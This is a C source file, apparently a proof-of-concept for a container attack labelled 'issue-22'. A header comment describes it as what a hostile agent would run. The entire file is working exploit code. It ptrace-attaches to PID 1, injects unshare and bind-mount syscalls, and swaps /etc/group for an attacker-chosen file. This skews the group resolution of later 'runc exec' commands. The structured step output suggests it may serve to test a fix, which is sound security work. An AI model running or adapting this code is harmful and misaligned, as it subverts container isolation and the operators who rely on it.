/* The issue-22 attack on a container agent's PID 1, as a hostile agent would
 * run it (x86_64, static): ptrace PID 1, make it call
 * unshare(CLONE_NEWUSER|CLONE_NEWNS) and bind argv[1] over /etc/group, then
 * let it go on. Every later `runc exec` that joins PID 1's mount namespace
 * would then resolve the step's groups in that file.
 * Prints one line per step, "step=<name> ok" or "step=<name> failed: <why>",
 * and exits at the first failure. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t pid = 1;

static void fail(const char *step, const char *why) {
    printf("step=%s failed: %s\n", step, why);
    fflush(stdout);
    exit(1);
}

static void ok(const char *step) { printf("step=%s ok\n", step); fflush(stdout); }

static void poke_string(unsigned long addr, const char *s) {
    size_t n = strlen(s) + 1;
    for (size_t i = 0; i < n; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, s + i, (n - i) < sizeof(long) ? (n - i) : sizeof(long));
        if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + i), (void *)word) < 0)
            fail("poke", strerror(errno));
    }
}

static long remote(const struct user_regs_struct *saved, unsigned long at, long nr, long a1,
                   long a2, long a3, long a4, long a5) {
    struct user_regs_struct r = *saved;
    int st;
    r.rax = nr; r.orig_rax = -1; r.rip = at;
    r.rdi = a1; r.rsi = a2; r.rdx = a3; r.r10 = a4; r.r8 = a5;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0) fail("setregs", strerror(errno));
    if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) fail("step", strerror(errno));
    if (waitpid(pid, &st, __WALL) < 0) fail("wait", strerror(errno));
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) fail("getregs", strerror(errno));
    return (long)r.rax;
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: inject FILE\n"); return 2; }
    int fd = open("/proc/1/mem", O_RDWR);
    if (fd < 0) fail("open-mem", strerror(errno));
    close(fd);
    ok("open-mem");
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) fail("attach", strerror(errno));
    int st;
    if (waitpid(pid, &st, __WALL) < 0) fail("wait", strerror(errno));
    ok("attach");
    struct user_regs_struct saved;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) fail("getregs", strerror(errno));
    unsigned long at = saved.rip - 2;
    errno = 0;
    long text = ptrace(PTRACE_PEEKTEXT, pid, (void *)at, 0);
    if (errno || (text & 0xffff) != 0x050f) fail("find-syscall", "not stopped after a syscall");
    unsigned long buf = (saved.rsp - 4096) & ~15UL;
    poke_string(buf, argv[1]);
    poke_string(buf + 1024, "/etc/group");
    long rc = remote(&saved, at, SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, 0);
    if (rc != 0) fail("unshare", strerror((int)-rc));
    ok("unshare");
    rc = remote(&saved, at, SYS_mount, (long)buf, (long)(buf + 1024), 0, MS_BIND, 0);
    if (rc != 0) fail("bind-group", strerror((int)-rc));
    ok("bind-group");
    if (ptrace(PTRACE_SETREGS, pid, 0, &saved) < 0) fail("restore", strerror(errno));
    ptrace(PTRACE_DETACH, pid, 0, 0);
    ok("done");
    return 0;
}
